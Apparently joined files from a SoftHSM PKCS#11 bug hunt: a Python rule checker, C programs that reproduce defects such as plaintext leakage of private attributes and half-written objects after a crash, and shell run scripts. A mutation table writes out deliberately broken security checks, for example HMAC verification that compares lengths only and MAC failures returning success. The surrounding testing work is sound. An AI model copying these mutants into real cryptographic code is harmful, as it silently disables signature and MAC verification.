                   129: 'brainpoolP512', 31: 'sect113', 35: 'sect131', 43: 'sect163', 51: 'sect193', 73: 'sect283', 105: 'sect409', 145: 'sect571'}

def r7_raw_peer_keys(ctx, prog):
    """CKM_ECDH1_DERIVE accepts the peer's public value raw or DER-wrapped and has to guess which.  For the sizes a raw value of a supported curve has, the guess must not depend on
    the key bytes: a raw key that happens to start like a DER OCTET STRING (04 <len>) would otherwise be unwrapped and the derivation fails or yields another secret."""
    r = ctx.rule('C10.R7', 'a peer public value with the raw size of a supported curve is always taken as raw', floor=6, engine='E2 finite-domain evaluation against the curve size table')
    f = prog.fn('SoftHSM::getECDHPubData')
    ctx.analysed(f)
    pn = param_name(f, 0)
    for ln, what in sorted(RAW_PUBLIC_SIZES.items()):
        o = Outcomes(f, prog, cenv={'size(%s)' % pn: ln}, record_calls={'raw2Octet'})
        o.CAP = 64
        o.go()
        r.paths += len(o.outcomes)
        site = '%d bytes: %s' % (ln, what)
        bad = [oc for oc in o.outcomes if not any(e[0] == 'call' and e[1] == 'raw2Octet' for e in oc['events'])]
        if not o.outcomes:
            r.undecided(f['qname'], site, 'no path', file=f['file'], line=f['line'])
        elif bad:
            r.violation(f['qname'], site, 'a %d-byte value is handed on as if it were DER on a path that depends on its first bytes: a raw %s key starting 04 %02x.. is mis-read' % (ln, what.split(' ')[0], ln - 2),
                        file=f['file'], line=bad[0]['line'], path=bad[0]['path'])
        else:
            r.ok(f['qname'], site, '%d paths, all wrap the raw value' % len(o.outcomes), file=f['file'], line=f['line'])
    # the other named curves the OpenSSL back end accepts (C_GetMechanismInfo advertises 112..521 bits for CKM_ECDH1_DERIVE): one instance for all of them
    amb, line0, path0 = [], f['line'], None
    for ln, what in sorted(OTHER_RAW_SIZES.items()):
        o = Outcomes(f, prog, cenv={'size(%s)' % pn: ln}, record_calls={'raw2Octet'})
        o.CAP = 64
        o.go()
        r.paths += len(o.outcomes)
        bad = [oc for oc in o.outcomes if not any(e[0] == 'call' and e[1] == 'raw2Octet' for e in oc['events'])]
        if not o.outcomes:
            r.undecided(f['qname'], 'raw points of the other named curves', 'no path for %d bytes' % ln, file=f['file'], line=f['line'])
            return
        if bad:
            amb.append('%d (%s)' % (ln, what))
            line0, path0 = bad[0]['line'], path0 or bad[0]['path']
    site = 'raw points of the other named curves'
    if amb:
        r.violation(f['qname'], site, 'raw public values of these sizes are classified by their first bytes: %s - a raw point whose X coordinate starts with the byte (size - 2) is taken for a DER OCTET STRING and the derivation fails (about one peer key in 256)' % ', '.join(amb),
                    file=f['file'], line=line0, path=path0)
    else:
        r.ok(f['qname'], site, '%d sizes, all taken as raw whatever their content' % len(OTHER_RAW_SIZES), file=f['file'], line=f['line'])


def run(ctx):
    ossl = ctx.prog('ossl-file')
    botan = ctx.prog('botan-file')
    configs = [('ossl-file', ossl), ('botan-file', botan)]
    r1_accept(ctx, configs)
    r2_reported(ctx, ossl)
    r3_stripped_length(ctx, configs)
    from rules import c06
    c06.r6_read_diamond(ctx, ossl, rule_id='C10.R4')
    from rules import c13
    c13.r4_truncation(ctx, ossl, rule_id='C10.R5')
    r6_counter_limit(ctx, configs)
    r7_raw_peer_keys(ctx, ossl)
    c13.r10_complete_fill(ctx, ossl, rule_id='C10.R8')
    from rules import c20
    c20.r10_round_up(ctx, configs, rule_id='C10.R9')
    r10_secret_measure(ctx, configs)
    r15_pkcs1_bounds(ctx, ossl)
    from rules import c12
    c12.r1cd_typestate(ctx, ossl, rule_ids=('C10.R11a', 'C10.R11b'))
    c20.r13_arm_digests(ctx, configs, rule_id='C10.R12')
    c20.r14_arm_effects(ctx, configs, rule_id='C10.R13')
    c20.r15_order_length(ctx, configs, rule_id='C10.R14')


MUTANTS = [
    dict(name='rsa-pkcs-encrypt-refuses-longest-message', rule='C10.R15', file='src/lib/crypto/OSSLRSA.cpp', after='bool OSSLRSA::encrypt(',
         old='\t\tif (data.size() > (size_t) (RSA_size(rsa) - 11))', new='\t\tif (data.size() >= (size_t) (RSA_size(rsa) - 11))'),
    dict(name='rsa-pkcs-sign-refuses-longest-message', rule='C10.R15', file='src/lib/crypto/OSSLRSA.cpp', after='bool OSSLRSA::sign(',
         old='\t\tif (dataToSign.size() > allowedLen)\n\t\t{\n\t\t\tERROR_MSG("Data to sign exceeds maximum for PKCS #1 signature");', new='\t\tif (dataToSign.size() >= allowedLen)\n\t\t{\n\t\t\tERROR_MSG("Data to sign exceeds maximum for PKCS #1 signature");'),
    dict(name='ecdh-secret-measured-by-the-order', rule='C10.R10', file='src/lib/crypto/OSSLECDH.cpp', after='bool OSSLECDH::deriveKey(',
         old='\tint size = (EC_GROUP_get_degree(EC_KEY_get0_group(priv)) + 7) / 8;', new='\tint size = ((OSSLECPublicKey *)publicKey)->getOrderLength();'),
    dict(name='botan-ecdh-secret-measured-by-the-order', rule='C10.R10', config='botan-file', file='src/lib/crypto/BotanECDH.cpp', after='bool BotanECDH::deriveKey(',
         old='\tint size = priv->domain().get_p_bytes();', new='\tint size = priv->domain().get_order_bytes();'),
    dict(name='botan-ctr-limit-only-narrow-counters', rule='C10.R6', config='botan-file', file='src/lib/crypto/BotanSymmetricAlgorithm.cpp', after='bool BotanSymmetricAlgorithm::decryptInit(',
         old='\tif (counterBits > 0)\n', new='\tif (counterBits > 0 && counterBits <= 64)\n'),
    dict(name='gcm-tag-only-shortcut', rule='C10.R1', file='src/lib/crypto/OSSLEVPSymmetricAlgorithm.cpp', after='bool OSSLEVPSymmetricAlgorithm::decryptFinal(',
         old='\t\t// Prepare the output block\n\t\tdata.resize(aeadBuffer.size() - tagBytes + getBlockSize());', new='\t\tif (aeadBuffer.size() == tagBytes)\n\t\t{\n\t\t\tclean();\n\t\t\treturn true;\n\t\t}\n\t\tdata.resize(aeadBuffer.size() - tagBytes + getBlockSize());'),
    dict(name='hmac-verify-length-only', rule='C10.R1', file='src/lib/crypto/OSSLEVPMacAlgorithm.cpp', after='bool OSSLEVPMacAlgorithm::verifyFinal(',
         old='\treturn macResult == signature;', new='\treturn macResult.size() == signature.size();'),
    dict(name='dsa-verify-error-accepted', rule='C10.R1', file='src/lib/crypto/OSSLDSA.cpp', after='bool OSSLDSA::verify(',
         old='\tif (ret != 1)\n', new='\tif (ret == 0)\n'),
    dict(name='macverifyfinal-result-dropped', rule='C10.R2', file='src/lib/SoftHSM.cpp', after='static CK_RV MacVerifyFinal(',
         old='\tif (!mac->verifyFinal(signature))\n\t{\n\t\tsession->resetOp();\n\t\treturn CKR_SIGNATURE_INVALID;\n\t}', new='\tif (!mac->verifyFinal(signature))\n\t{\n\t\tsession->resetOp();\n\t\treturn CKR_OK;\n\t}'),
    dict(name='dh-secret-resized-to-returned-length', rule='C10.R3', file='src/lib/crypto/OSSLDH.cpp', after='bool OSSLDH::deriveKey(',
         old='\tmemcpy(&secret[0] + size - keySize, &derivedSecret[0], keySize);', new='\tmemcpy(&secret[0], &derivedSecret[0], keySize);\n\tsecret.resize(keySize);'),
]
