/*
 * Defect 5: the token advertises CKM_DES3_CBC_PAD for wrapping AND unwrapping (and CKM_DES3_CBC for
 * wrapping) in C_GetMechanismInfo, but
 *   - C_UnwrapKey(CKM_DES3_CBC_PAD) fails with CKR_MECHANISM_INVALID for every DES2/DES3 key, so a
 *     standard PKCS#7-padded 3DES-CBC blob made by an independent implementation cannot be unwrapped;
 *   - C_WrapKey refuses both mechanisms outright.
 * The same key decrypts the very same blob with C_Decrypt(CKM_DES3_CBC_PAD) - only the key-management
 * path is broken.
 *
 * The wrapped blob below was produced with the OpenSSL command line:
 *   printf '\x00\x11...\xff' | openssl enc -des-ede3-cbc -K 0123456789abcdef23456789abcdef01456789abcdef0123 -iv 0102030405060708
 *
 * exit 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static CK_OBJECT_CLASS skClass = CKO_SECRET_KEY;
static CK_KEY_TYPE ktDES3 = CKK_DES3, ktAES = CKK_AES;

static const CK_BYTE des3key[24] = {
	0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef, 0x01,
	0x45, 0x67, 0x89, 0xab, 0xcd, 0xef, 0x01, 0x23 };
static CK_BYTE iv[8] = { 1, 2, 3, 4, 5, 6, 7, 8 };
static const CK_BYTE plainKey[16] = { 0x00, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff };
static const CK_BYTE blob[24] = {
	0x91, 0x3c, 0x73, 0x75, 0xd8, 0xa6, 0x60, 0x37, 0x2d, 0x93, 0x0b, 0xb4, 0x7d, 0xc4, 0x61, 0x50,
	0x57, 0xda, 0xae, 0xaa, 0x73, 0x8a, 0x83, 0x64 };

static int scenario(const char *libdir)
{
	CK_RV rv;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	CK_MECHANISM_INFO mi;
	CHECK_SETUP(F->C_GetMechanismInfo(g_slot, CKM_DES3_CBC_PAD, &mi));
	int advUnwrap = (mi.flags & CKF_UNWRAP) != 0, advWrap = (mi.flags & CKF_WRAP) != 0;
	printf("C_GetMechanismInfo(CKM_DES3_CBC_PAD): flags 0x%lx -> CKF_WRAP %s, CKF_UNWRAP %s\n", mi.flags, advWrap ? "set" : "clear", advUnwrap ? "set" : "clear");
	CHECK_SETUP(F->C_GetMechanismInfo(g_slot, CKM_DES3_CBC, &mi));
	printf("C_GetMechanismInfo(CKM_DES3_CBC)    : flags 0x%lx -> CKF_WRAP %s\n", mi.flags, (mi.flags & CKF_WRAP) ? "set" : "clear");

	CK_ATTRIBUTE kT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktDES3), { CKA_VALUE, (void *)des3key, 24 },
			      A(CKA_WRAP, ckTrue), A(CKA_UNWRAP, ckTrue), A(CKA_ENCRYPT, ckTrue), A(CKA_DECRYPT, ckTrue) };
	CK_OBJECT_HANDLE hK;
	CHECK_SETUP(F->C_CreateObject(s, kT, 7, &hK));

	CK_MECHANISM m = { CKM_DES3_CBC_PAD, iv, sizeof iv };

	/* control: the blob is a proper PKCS#7-padded 3DES-CBC ciphertext for this key */
	CK_BYTE out[64]; CK_ULONG ol = sizeof out;
	CHECK_SETUP(F->C_DecryptInit(s, &m, hK));
	rv = F->C_Decrypt(s, (CK_BYTE_PTR)blob, sizeof blob, out, &ol);
	int decOk = (rv == CKR_OK && ol == 16 && !memcmp(out, plainKey, 16));
	printf("control: C_Decrypt(CKM_DES3_CBC_PAD, key, OpenSSL-made blob) -> 0x%lx, %s\n", rv, decOk ? "plaintext = the expected 16 key bytes" : "unexpected result");
	if (!decOk) { printf("SET-UP PROBLEM: the 3DES cipher is not usable in this build\n"); p11_cleanup(); return 2; }

	CK_ATTRIBUTE uT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hU = CK_INVALID_HANDLE;
	rv = F->C_UnwrapKey(s, &m, hK, (CK_BYTE_PTR)blob, sizeof blob, uT, 4, &hU);
	printf("C_UnwrapKey(CKM_DES3_CBC_PAD, same key, same blob, template AES) -> 0x%lx (CKR_OK expected; 0x70 = CKR_MECHANISM_INVALID)\n", rv);
	int unwrapFails = (rv != CKR_OK);
	if (rv == CKR_OK)
	{
		ol = sizeof out; get_attr(s, hU, CKA_VALUE, out, &ol);
		hexdump("   unwrapped value", out, ol);
		if (ol != 16 || memcmp(out, plainKey, 16)) unwrapFails = 1;
	}

	/* wrapping */
	CK_ATTRIBUTE aT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), { CKA_VALUE, (void *)plainKey, 16 }, A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hA;
	CHECK_SETUP(F->C_CreateObject(s, aT, 5, &hA));
	CK_BYTE w[64]; CK_ULONG wl = sizeof w;
	rv = F->C_WrapKey(s, &m, hK, hA, w, &wl);
	printf("C_WrapKey(CKM_DES3_CBC_PAD, DES3 key, AES key 00112233..ff)      -> 0x%lx (CKR_OK and the blob above expected)\n", rv);
	int wrapFails = (rv != CKR_OK) || wl != sizeof blob || memcmp(w, blob, sizeof blob);
	CK_MECHANISM m2 = { CKM_DES3_CBC, iv, sizeof iv };
	wl = sizeof w;
	rv = F->C_WrapKey(s, &m2, hK, hA, w, &wl);
	printf("C_WrapKey(CKM_DES3_CBC,     DES3 key, AES key 00112233..ff)      -> 0x%lx (CKR_OK expected)\n", rv);
	p11_cleanup();

	printf("\nproperty C13: wrapped blobs follow the mechanism's standard (... PKCS#7-padded CBC under the caller's IV ...) so that an\n"
	       "independent implementation can unwrap them and vice versa.\n");
	if (advUnwrap && unwrapFails)
	{
		printf("observed: CKM_DES3_CBC_PAD is advertised with CKF_UNWRAP%s but the token cannot unwrap a standard 3DES-CBC-PAD blob that it\n"
		       "decrypts fine with C_Decrypt%s. DEFECT REPRODUCED\n", advWrap ? "|CKF_WRAP" : "", wrapFails ? ", and it cannot wrap with the mechanism at all" : "");
		return 1;
	}
	printf("not reproduced\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r = run_child(scenario, argv[1]);
	if (r >= 100) { printf("the scenario crashed\n"); return 2; }
	return r;
}
