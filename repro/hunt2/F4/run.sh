#!/bin/sh
# usage: run.sh <directory containing libsofthsm2.so>
# exit 1 = defect reproduced, 0 = not reproduced, 2 = set-up problem
LIBDIR=${1:?usage: run.sh <directory containing libsofthsm2.so>}
HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
[ -f "$LIBDIR/libsofthsm2.so" ] || { echo "no libsofthsm2.so in $LIBDIR"; exit 2; }
LIBDIR=$(cd "$LIBDIR" && pwd)
T=$(mktemp -d /tmp/hunt.XXXXXX) || exit 2
trap 'rm -rf "$T"' EXIT
${CC:-cc} -O0 -g -rdynamic -I"$ROOT/src/lib/pkcs11" -I"$HERE" -o "$T/repro" "$HERE/repro.c" -ldl || { echo "cannot build the replay"; exit 2; }
REPRO_TMP="$T/work" "$T/repro" "$LIBDIR"
rc=$?
echo "exit code: $rc"
exit $rc
