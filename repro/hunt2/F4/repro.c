/*
 * Defect 4 - a process that dies while it is inside C_GenerateKey / C_CreateObject leaves a half-built
 * object file behind. After the crash every process gets that object from C_FindObjects as a valid
 * object - with wrong or missing attribute values (no CKA_VALUE, CKA_VALUE_LEN = 0, CKA_LOCAL = FALSE,
 * CKA_SENSITIVE = FALSE, empty label, or no attribute at all).
 *
 * The "crash" is a SIGKILL raised from an interposed open(): the n-th time the library opens an object
 * file for writing during C_GenerateKey, for n = 1, 2, 3, ... until the call completes.
 */
#include "p11util.h"
#include <stdarg.h>
#include <sys/syscall.h>

static volatile int die_at = 0;   /* die at the n-th write-open of an object file (0 = never) */
static volatile int count = 0;

int open(const char *path, int flags, ...)
{
	mode_t mode = 0;
	if (flags & O_CREAT) { va_list ap; va_start(ap, flags); mode = va_arg(ap, mode_t); va_end(ap); }
	size_t l = strlen(path);
	if (die_at > 0 && (flags & O_ACCMODE) == O_RDWR && l > 7 && !strcmp(path + l - 7, ".object") && !strstr(path, "token.object")) {
		if (++count == die_at) kill(getpid(), SIGKILL);
	}
	return (int) syscall(SYS_openat, AT_FDCWD, path, flags, mode);
}

static int setup(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect4");
	MUST(F->C_Finalize(NULL));
	return 0;
}

/* C_GenerateKey(CKM_AES_KEY_GEN) of a private, sensitive 256-bit token key labelled "newkey" */
static int gen(void *u)
{
	int n = *(int *) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_MECHANISM m = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_BBOOL t = CK_TRUE; CK_ULONG len = 32;
	CK_ATTRIBUTE tmpl[] = { { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &t, 1 }, { CKA_VALUE_LEN, &len, sizeof(len) },
		{ CKA_LABEL, "newkey", 6 }, { CKA_ENCRYPT, &t, 1 }, { CKA_SENSITIVE, &t, 1 } };
	CK_OBJECT_HANDLE o;
	die_at = n;
	CK_RV rv = F->C_GenerateKey(h, &m, tmpl, 6, &o);
	die_at = 0;
	SAY("n=%2d: not killed, C_GenerateKey returned 0x%lx after %d write-opens of the object file\n", n, rv, count);
	return 77;
}

/* returns 0: token fine (no object, or the complete key); 1: a wrong object is returned as valid */
static int verify(void *u)
{
	int n = *(int *) u;
	int bad = 0;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[16];
	CK_ULONG cnt = p11_find(h, NULL, 0, o, 16);
	if (!cnt) SAY("n=%2d: killed; afterwards: no object (fine)\n", n);
	for (CK_ULONG i = 0; i < cnt; i++) {
		CK_ULONG cls = 99, kt = 99, vl = 99; CK_BBOOL sens = 9, local = 9; CK_RV r1, r2, r3, r4, r5;
		char lab[64] = { 0 };
		p11_get(h, o[i], CKA_CLASS, &cls, sizeof(cls), &r1);
		p11_get(h, o[i], CKA_KEY_TYPE, &kt, sizeof(kt), &r2);
		p11_get(h, o[i], CKA_VALUE_LEN, &vl, sizeof(vl), &r3);
		p11_get(h, o[i], CKA_SENSITIVE, &sens, 1, &r4);
		p11_get(h, o[i], CKA_LOCAL, &local, 1, &r5);
		p11_get(h, o[i], CKA_LABEL, lab, 63, NULL);
		CK_BYTE iv[16] = { 0 }, in[16] = { 0 }, out[32]; CK_ULONG ol = sizeof(out);
		CK_MECHANISM m = { CKM_AES_CBC, iv, 16 };
		CK_RV ei = F->C_EncryptInit(h, &m, o[i]);
		CK_RV e = ei == CKR_OK ? F->C_Encrypt(h, in, 16, out, &ol) : ei;
		int complete = r1 == CKR_OK && cls == CKO_SECRET_KEY && kt == CKK_AES && vl == 32 && sens == 1 && local == 1 && e == CKR_OK && !strcmp(lab, "newkey");
		if (r1 != CKR_OK)
			SAY("n=%2d: C_FindObjects returns an object whose attributes cannot be read (CKA_CLASS -> 0x%lx)%s\n", n, r1, complete ? "" : "   <-- WRONG");
		else
			SAY("n=%2d: C_FindObjects returns: class=%lu keytype=0x%lx label='%s' value_len=%lu sensitive=%d local=%d, encrypting with it -> 0x%lx%s\n",
			    n, cls, kt, lab, vl, sens, local, e, complete ? "  (complete key)" : "   <-- WRONG");
		if (!complete) bad = 1;
		F->C_DestroyObject(h, o[i]);
	}
	F->C_Finalize(NULL);
	return bad;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	p11_setup_dirs(libdir);
	p11_load(libdir);
	SAY("Set-up: one empty token. Each round: a process calls C_GenerateKey(AES-256, token, private, sensitive,\n"
	    "label 'newkey') and is killed at the n-th write-open of the new object file; then a fresh process\n"
	    "opens the token, logs in and lists the objects.\n\n");
	if (p11_in_child(setup, NULL)) return 2;
	int wrong = 0, rounds = 0;
	for (int n = 1; n < 100; n++) {
		int r = p11_in_child(gen, &n);
		if (r != 1000 + SIGKILL && r != 77) { SAY("SETUP FAILURE: generator status %d\n", r); return 2; }
		int v = p11_in_child(verify, &n);
		if (v == 1) wrong++;
		else if (v != 0) { SAY("verifier status %d (crash/hang opening the token?)\n", v); wrong++; }
		rounds++;
		if (r == 77) break;
	}
	SAY("\nProperty C16: if the process dies at any point during a call ... the object it was writing is in its old or\n"
	    "its new state (an object being created may be absent) ... a half-written object is never returned as a valid\n"
	    "object with wrong or missing attribute values.\n");
	SAY("OBSERVED: %d of %d kill points leave an object that is returned as valid with wrong/missing attributes.\n", wrong, rounds);
	SAY(wrong ? "DEFECT REPRODUCED\n" : "not reproduced\n");
	return wrong ? 1 : 0;
}
