#!/bin/sh
# usage: run.sh <directory containing libsofthsm2.so>
# exit 1 = defect reproduced, 0 = not reproduced, 2 = set-up problem
LIBDIR="$1"
HERE="$(cd "$(dirname "$0")" && pwd)"
INC="$HERE/../../src/lib/pkcs11"
[ -n "$LIBDIR" ] && [ -f "$LIBDIR/libsofthsm2.so" ] || { echo "usage: $0 <dir with libsofthsm2.so>"; exit 2; }
[ -f "$INC/cryptoki.h" ] || { echo "PKCS#11 headers not found in $INC"; exit 2; }
LIBDIR="$(cd "$LIBDIR" && pwd)"
WORK="$(mktemp -d /tmp/hunt-build-XXXXXX)" || exit 2
trap 'rm -rf "$WORK"' EXIT
${CC:-gcc} -std=gnu99 -O1 -I"$INC" -I"$HERE" -o "$WORK/repro" "$HERE/repro.c" -ldl -lpthread || { echo "compile failed"; exit 2; }
"$WORK/repro" "$LIBDIR"
exit $?
