#!/bin/sh
# usage: run.sh <directory containing libsofthsm2.so>
# exit 1 = defect reproduced, 0 = not reproduced, 2 = set-up problem
HERE=$(cd "$(dirname "$0")" && pwd)
LIBDIR=${1:?usage: run.sh <dir with libsofthsm2.so>}
LIBDIR=$(cd "$LIBDIR" 2>/dev/null && pwd) || { echo "no such directory"; exit 2; }
[ -f "$LIBDIR/libsofthsm2.so" ] || { echo "no libsofthsm2.so in $LIBDIR"; exit 2; }
# PKCS#11 headers: next to the source tree this hunt lives in
INC=${P11_INCLUDE:-$HERE/../../src/lib/pkcs11}
[ -f "$INC/cryptoki.h" ] || { echo "cryptoki.h not found in $INC (set P11_INCLUDE)"; exit 2; }
TMP=$(mktemp -d /tmp/hsmrepro-build-XXXXXX) || exit 2
trap 'rm -rf "$TMP"' EXIT
cc -O0 -g -w -I"$INC" -I"$HERE" -o "$TMP/repro" "$HERE/repro.c" -ldl  || { echo "compile failed"; exit 2; }
"$TMP/repro" "$LIBDIR"
exit $?
