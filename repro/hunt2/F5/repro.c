/*
 * Defect 5 - byte-string values of a CKA_PRIVATE token object are written to the token directory in
 * plaintext when they are elements of its CKA_WRAP_TEMPLATE / CKA_UNWRAP_TEMPLATE attribute.
 *
 * The replay creates private objects, finalizes the library and then searches every file of the token
 * directory for the byte strings (no PIN, no library involved in the search).
 */
#include "p11util.h"

#define M_TOP     "TOPLEVEL-LABEL-OF-PRIVATE-KEY"
#define M_ID      "TOPLEVEL-ID-OF-PRIVATE-KEY"
#define M_WLABEL  "LABEL-INSIDE-WRAP-TEMPLATE"
#define M_WID     "ID-INSIDE-WRAP-TEMPLATE"
#define M_ULABEL  "LABEL-INSIDE-UNWRAP-TEMPLATE"
#define M_USUBJ   "SUBJECT-INSIDE-UNWRAP-TEMPLATE"
#define M_CLABEL  "LABEL-INSIDE-TEMPLATE-OF-COPIED-KEY"

static int create(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect5");
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_CLASS secret = CKO_SECRET_KEY, prv = CKO_PRIVATE_KEY; CK_BBOOL t = CK_TRUE, f = CK_FALSE; CK_KEY_TYPE aes = CKK_AES;
	CK_OBJECT_HANDLE o, c;

	/* 1: private AES wrapping key with wrap and unwrap template */
	CK_ATTRIBUTE wt[] = { { CKA_CLASS, &secret, sizeof(secret) }, { CKA_LABEL, M_WLABEL, strlen(M_WLABEL) }, { CKA_ID, M_WID, strlen(M_WID) } };
	CK_ATTRIBUTE ut[] = { { CKA_CLASS, &prv, sizeof(prv) }, { CKA_LABEL, M_ULABEL, strlen(M_ULABEL) }, { CKA_SUBJECT, M_USUBJ, strlen(M_USUBJ) } };
	CK_ATTRIBUTE tmpl[] = { { CKA_CLASS, &secret, sizeof(secret) }, { CKA_KEY_TYPE, &aes, sizeof(aes) }, { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &t, 1 },
		{ CKA_LABEL, M_TOP, strlen(M_TOP) }, { CKA_ID, M_ID, strlen(M_ID) }, { CKA_WRAP, &t, 1 }, { CKA_UNWRAP, &t, 1 },
		{ CKA_VALUE, "0123456789abcdef", 16 }, { CKA_WRAP_TEMPLATE, wt, sizeof(wt) }, { CKA_UNWRAP_TEMPLATE, ut, sizeof(ut) } };
	MUST(F->C_CreateObject(h, tmpl, sizeof(tmpl) / sizeof(tmpl[0]), &o));
	CK_BBOOL priv = 0;
	p11_get(h, o, CKA_PRIVATE, &priv, 1, NULL);
	SAY("created AES key: CKA_TOKEN=TRUE CKA_PRIVATE=%s, CKA_LABEL, CKA_ID, CKA_WRAP_TEMPLATE{CLASS,LABEL,ID}, CKA_UNWRAP_TEMPLATE{CLASS,LABEL,SUBJECT}\n", priv ? "TRUE" : "FALSE");

	/* what the API returns for the wrap template */
	CK_ATTRIBUTE q = { CKA_WRAP_TEMPLATE, NULL, 0 };
	MUST(F->C_GetAttributeValue(h, o, &q, 1));
	CK_ATTRIBUTE *in = calloc(1, q.ulValueLen); q.pValue = in;
	MUST(F->C_GetAttributeValue(h, o, &q, 1));
	for (CK_ULONG i = 0; i < q.ulValueLen / sizeof(CK_ATTRIBUTE); i++) in[i].pValue = calloc(1, in[i].ulValueLen + 1);
	MUST(F->C_GetAttributeValue(h, o, &q, 1));
	for (CK_ULONG i = 0; i < q.ulValueLen / sizeof(CK_ATTRIBUTE); i++)
		if (in[i].type == CKA_LABEL || in[i].type == CKA_ID) SAY("  the API returns wrap template element 0x%lx = '%s'\n", in[i].type, (char *) in[i].pValue);

	/* 2: a public session key with a wrap template is copied to a private token object */
	CK_ATTRIBUTE wt2[] = { { CKA_LABEL, M_CLABEL, strlen(M_CLABEL) } };
	CK_ATTRIBUTE tmpl2[] = { { CKA_CLASS, &secret, sizeof(secret) }, { CKA_KEY_TYPE, &aes, sizeof(aes) }, { CKA_TOKEN, &f, 1 }, { CKA_PRIVATE, &f, 1 },
		{ CKA_WRAP, &t, 1 }, { CKA_VALUE, "fedcba9876543210", 16 }, { CKA_WRAP_TEMPLATE, wt2, sizeof(wt2) } };
	MUST(F->C_CreateObject(h, tmpl2, sizeof(tmpl2) / sizeof(tmpl2[0]), &o));
	CK_ATTRIBUTE ct[] = { { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &t, 1 } };
	MUST(F->C_CopyObject(h, o, ct, 2, &c));
	SAY("copied a public session key with CKA_WRAP_TEMPLATE{LABEL} to a CKA_TOKEN=TRUE, CKA_PRIVATE=TRUE object\n");
	MUST(F->C_Finalize(NULL));
	return 0;
}

static int in_dir(const char *marker)
{
	int hits = 0;
	DIR *d = opendir(p11_token_dir());
	struct dirent *e;
	if (!d) return -1;
	while ((e = readdir(d)) != NULL) {
		char p[1200];
		if (e->d_name[0] == '.') continue;
		snprintf(p, sizeof(p), "%s/%s", p11_token_dir(), e->d_name);
		if (p11_file_contains(p, marker, strlen(marker))) { hits++; SAY("    plaintext '%s' found in %s\n", marker, e->d_name); }
	}
	closedir(d);
	return hits;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	p11_setup_dirs(libdir);
	p11_load(libdir);
	if (p11_in_child(create, NULL)) return 2;
	SAY("\nsearching the token directory %s (library finalized, no PIN used):\n", p11_token_dir());
	const char *ctrl[] = { M_TOP, M_ID, "0123456789abcdef", "fedcba9876543210" };
	const char *nested[] = { M_WLABEL, M_WID, M_ULABEL, M_USUBJ, M_CLABEL };
	int leaks = 0;
	for (size_t i = 0; i < 4; i++) {
		int n = in_dir(ctrl[i]);
		if (n < 0) return 2;
		SAY("  top-level byte string '%s': %s\n", ctrl[i], n ? "PLAINTEXT ON DISK" : "not on disk in plaintext (encrypted, as required)");
		if (n) leaks++;
	}
	for (size_t i = 0; i < 5; i++) {
		int n = in_dir(nested[i]);
		SAY("  template element     '%s': %s\n", nested[i], n ? "PLAINTEXT ON DISK" : "not on disk in plaintext");
		if (n) leaks++;
	}
	SAY("\nProperty C06: no byte-string attribute value of a CKA_PRIVATE object is ever present in plaintext in the token\n"
	    "directory ... a decoder given a correct PIN recovers exactly the values the API returns, without one the directory\n"
	    "contains none of them.\n");
	SAY(leaks ? "OBSERVED: %d byte strings of private objects are readable in the directory without any PIN. DEFECT REPRODUCED\n" : "not reproduced\n", leaks);
	return leaks ? 1 : 0;
}
