/*
 * Defect 6 (Botan crypto backend only): a DH private key is wrapped as a PKCS#8 structure that no
 * other implementation understands, and a standard PKCS#8 DH key cannot be unwrapped.
 *
 * Standard (PKCS#3 / RFC 2631, what OpenSSL and others read and write):
 *   PrivateKeyInfo { 0, { dhKeyAgreement 1.2.840.113549.1.3.1, DHParameter { p, g } }, OCTET STRING { INTEGER x } }
 *   or            { 0, { dhpublicnumber 1.2.840.10046.2.1,     DomainParameters { p, g, q, ... } }, ... }
 * Botan backend: { 0, { dhpublicnumber 1.2.840.10046.2.1, { p, g } }, ... }  - X9.42 OID with PKCS#3 parameters -
 * and its decoder only accepts that OID.
 *
 * No crypto library is needed: the blob is opened with C_Decrypt under the same AES key, and the
 * standard PKCS#8 input is DER-encoded by hand and encrypted with C_Encrypt.
 *
 * exit 1 = reproduced, 0 = not reproduced (e.g. OpenSSL backend), 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static const CK_BYTE OID_PKCS3[] = { 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x03, 0x01 };
static const CK_BYTE OID_X942[]  = { 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3e, 0x02, 0x01 };

/* RFC 2409 second Oakley group (1024-bit safe prime), generator 2 */
static const CK_BYTE P1024[128] = {
